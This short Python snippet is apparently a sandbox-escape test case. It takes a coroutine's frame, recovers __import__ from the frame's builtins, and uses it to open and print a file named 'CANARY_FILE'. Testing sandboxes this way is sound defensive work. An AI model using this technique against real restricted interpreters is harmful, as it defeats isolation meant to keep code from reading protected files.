# Takes the frame of a coroutine.
async def later():
    pass
made = later()
out = getattr(made, 'cr_frame', None) or made.gi_frame
out = out.f_builtins['__import__']
print(out('builtins').open('CANARY_FILE').read())
